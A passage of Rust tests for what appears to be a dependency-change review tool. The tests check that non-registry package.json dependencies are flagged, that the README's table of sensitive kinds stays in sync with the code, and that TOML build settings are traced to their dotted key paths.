                r,
                "kept/package.json",
                pkg("\n    \"x\": \"git+https://e.invalid/x.git\",\n    \"z\": \"1\""),
            );
        },
    );
    let summary = fx.summary(&[]);
    for flagged in [
        "git/package.json",
        "file/package.json",
        "short/package.json",
    ] {
        let got = flags(&summary, flagged);
        assert_eq!(got.len(), 1, "{flagged}: {got:?}");
        assert_eq!(got[0].0, SensitiveKind::PackageScript);
        assert!(got[0].1.contains("not from the registry"), "{}", got[0].1);
    }
    assert!(flags(&summary, "semver/package.json").is_empty());
    assert!(flags(&summary, "kept/package.json").is_empty());
}

/// The README's table of kinds is the code's table: regenerate it with
/// `DYNOCAP_BLESS_README=1 cargo test -p dynocap-review readme_lists`.
#[test]
fn readme_lists_every_kind_with_the_rules_of_the_table() {
    const BEGIN: &str =
        "<!-- sensitive-kinds:begin (generated from crates/review/src/patch/rules.rs) -->\n";
    const END: &str = "<!-- sensitive-kinds:end -->";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md");
    let readme = fs::read_to_string(&path).unwrap();
    let table = kinds_markdown();
    let (head, rest) = readme
        .split_once(BEGIN)
        .expect("README has the kinds markers");
    let (current, tail) = rest.split_once(END).expect("README has the end marker");
    if current != table && std::env::var_os("DYNOCAP_BLESS_README").is_some() {
        fs::write(&path, format!("{head}{BEGIN}{table}{END}{tail}")).unwrap();
        return;
    }
    assert_eq!(current, table, "the README's kinds table is stale");
    for kind in SensitiveKind::ALL {
        assert!(table.contains(&format!("| `{}` |", kind.as_str())));
        let json = serde_json::to_value(kind).unwrap();
        assert_eq!(json.as_str(), Some(kind.as_str()));
    }
}

/// The TOML reader attributes every line to its dotted key path: headers, dotted and quoted
/// keys, inline tables and the continuation lines of multi-line values.
#[test]
fn toml_watched_parts_follow_tables_and_dotted_keys() {
    let watch = [
        "package.build",
        "build-dependencies",
        "target.*.build-dependencies",
    ];
    let read = |text: &str| toml_keys::watched(text, &watch);
    assert!(read("[package]\nname = \"x\"\nversion = \"1\"\n").is_empty());
    assert_eq!(
        read("[package]\nbuild=\"b.rs\"\n"),
        ["package.build build=\"b.rs\""]
    );
    assert_eq!(read("[ package ]\n\"build\" = \"b.rs\"\n").len(), 1);
    assert_eq!(read("package.build = \"b.rs\"\n").len(), 1);
    assert_eq!(
        read("package = { name = \"x\", build = \"b.rs\" }\n").len(),
        1
    );
    assert_eq!(
        read("[target.\"cfg(unix)\".build-dependencies]\ncc = \"1\"\n").len(),
        2
    );
    assert_eq!(
        read("[build-dependencies]\ncc = [\n  \"1\",\n]\n[dependencies]\nx = \"1\"\n").len(),
        4
    );
    // Comments and blank lines are not content.
    assert_eq!(
        read("[build-dependencies]\n# a\n\ncc = \"1\"\n"),
        read("[build-dependencies]\ncc = \"1\"\n")
    );
}
